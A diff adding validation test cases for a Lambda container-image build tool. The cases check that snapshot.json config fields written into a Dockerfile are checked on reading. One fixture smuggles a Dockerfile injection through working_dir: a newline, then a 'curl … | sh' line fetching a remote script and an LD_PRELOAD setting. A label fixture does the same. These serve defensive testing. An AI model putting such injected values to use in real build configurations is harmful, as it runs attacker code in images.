@@ -910,7 +910,7 @@ CASES += [
         argv=BRANCH,
         code=5,
         says="unreadable record (the record is of provided.debian12/arm64)",
-        files={SNAPSHOT_JSON: snapshot(arch="arm64")},
+        files={SNAPSHOT_JSON: snapshot(arch="arm64", docker_arch="arm64")},
     ),
     Case(
         id="branch-snapshot-runtime-a-path",
@@ -918,6 +918,86 @@ CASES += [
         code=5,
         says="unreadable record (runtime '../x' is not a runtime identifier)",
         files={SNAPSHOT_JSON: snapshot(runtime="../x")},
+    ),
+    # snapshot.json's config reaches the branch Dockerfile: each field is checked on reading
+    Case(
+        id="branch-snapshot-working-dir-newline",
+        argv=BRANCH,
+        code=5,
+        says="unreadable record (config.working_dir holds the control character U+000A)",
+        files={
+            SNAPSHOT_JSON: snapshot(
+                config={
+                    **GOOD_SNAPSHOT["config"],
+                    "working_dir": "/var/task\nRUN curl -s https://x.invalid/i | sh\n"
+                    "ENV LD_PRELOAD=/tmp/x.so",
+                }
+            )
+        },
+    ),
+    Case(
+        id="branch-snapshot-user-line-separator",
+        argv=BRANCH,
+        code=5,
+        says="unreadable record (config.user holds the control character U+2028)",
+        files={SNAPSHOT_JSON: snapshot(config={**GOOD_SNAPSHOT["config"], "user": "x\u2028RUN"})},
+    ),
+    Case(
+        id="branch-snapshot-labels-a-list",
+        argv=BRANCH,
+        code=5,
+        says="unreadable record (ImageConfig.labels is not of type dict[str, str])",
+        files={SNAPSHOT_JSON: snapshot(config={**GOOD_SNAPSHOT["config"], "labels": []})},
+    ),
+    Case(
+        id="branch-snapshot-env-a-number",
+        argv=BRANCH,
+        code=5,
+        says="unreadable record (config.env[0] is not a string)",
+        files={SNAPSHOT_JSON: snapshot(config={**GOOD_SNAPSHOT["config"], "env": [1]})},
+    ),
+    Case(
+        id="branch-snapshot-entrypoint-not-text",
+        argv=BRANCH,
+        code=5,
+        says="unreadable record (config.entrypoint[0] is not a string)",
+        files={SNAPSHOT_JSON: snapshot(config={**GOOD_SNAPSHOT["config"], "entrypoint": [["sh"]]})},
+    ),
+    Case(
+        id="branch-snapshot-label-newline",
+        argv=BRANCH,
+        code=5,
+        says="unreadable record (config.labels['a'] holds the control character U+000A)",
+        files={
+            SNAPSHOT_JSON: snapshot(config={**GOOD_SNAPSHOT["config"], "labels": {"a": "b\nRUN x"}})
+        },
+    ),
+    Case(
+        id="branch-snapshot-config-missing-field",
+        argv=BRANCH,
+        code=5,
+        says="unreadable record (ImageConfig has no 'user')",
+        files={
+            SNAPSHOT_JSON: snapshot(
+                config={k: v for k, v in GOOD_SNAPSHOT["config"].items() if k != "user"}
+            )
+        },
+    ),
+    Case(
+        id="branch-snapshot-docker-arch",
+        argv=BRANCH,
+        code=5,
+        says="unreadable record (docker_arch 's390x' is not x86_64's)",
+        files={SNAPSHOT_JSON: snapshot(docker_arch="s390x")},
+    ),
+    # a snapshot killed midway leaves the previous one whole; a layer gone anyway is named
+    Case(
+        id="branch-snapshot-layer-missing",
+        argv=BRANCH,
+        code=5,
+        says=f"out/provided.debian12/x86_64/layers/{SHA}.tar.xz: a layer of the snapshot is "
+        "missing; run `lambda-images snapshot` again",
+        files={SNAPSHOT_JSON: snapshot()},
     ),
     Case(
         id="snapshot-without-build",
